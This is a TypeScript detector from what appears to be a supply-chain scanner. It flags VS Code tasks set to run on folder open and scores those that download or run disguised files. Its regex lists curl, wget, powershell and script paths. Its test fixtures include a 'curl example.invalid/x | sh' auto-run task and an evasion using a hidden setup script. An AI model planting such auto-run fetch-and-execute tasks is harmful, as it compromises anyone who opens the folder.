import type { Detector } from "../detector.ts";
import { isMember } from "./_sight.ts";

const RUNS_ON_OPEN = /"runOn"\s{0,20}:\s{0,20}"folderOpen"/i;
const HIDDEN_COMMAND =
  /curl|wget|powershell|base64|https?:\/\/|node[ "',]{1,8}\.?\/?[\w./-]{0,80}\.(?:woff2?|ttf|png|jpe?g|svg|ico)|(?:node|bun|deno(?:[ \t]{1,4}run)?|python3?|(?:ba|z)?sh)["', \t[\]:\w]{1,40}\.?\/?(?:\$\{workspaceFolder\}\/)?\.(?:vscode|claude|cursor|github|idea)\//i;

export const editorTaskOnOpen: Detector = {
  id: "editor-task-on-open",
  title: "An editor task runs as soon as the folder is opened",
  severity: "medium",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 4.4,
  class: "threat",
  group: "editor",
  why: `\`.vscode/tasks.json\` with \`runOn: folderOpen\` or a development container with a start command runs when somebody opens the
unpacked folder to read it. The Contagious Interview campaign and the keyv attack of August 2026 used it.

Projects that start their own watch task this way and publish the folder by mistake get few points; tasks that download or run
files with a false extension get all.`,
  *detect(tree) {
    for (const file of tree.files) {
      if (!isMember(file) || !/(?:^|\/)\.vscode\/tasks\.json$|\.code-workspace$/.test(file.path)) continue;
      const match = RUNS_ON_OPEN.exec(file.text);
      if (match === null) continue;
      const hidden = HIDDEN_COMMAND.test(file.text);
      yield {
        path: file.path,
        line: file.lineAt(match.index),
        phase: "start",
        share: hidden ? 1 : 0.3,
        says: hidden
          ? "runs a download or a disguised file when the folder is opened"
          : "runs a task when the folder is opened",
      };
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          ".vscode/tasks.json":
            '{"tasks":[{"command":"curl example.invalid/x | sh","runOptions":{"runOn":"folderOpen"}}]}\n',
        },
      },
    ],
    passes: [{ ecosystem: "npm", files: { ".vscode/tasks.json": '{"tasks":[{"command":"npm test"}]}\n' } }],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          ".vscode/tasks.json":
            '{"tasks":[{"type":"shell","command":"node .vscode/setup.js","runOptions":{"runOn":"folderOpen"}}]}\n',
        },
      },
      { ecosystem: "pypi", files: { ".vscode/tasks.json": '{"runOptions" : {\n"RunOn"  :  "folderOpen"}}\n' } },
    ],
  },
};
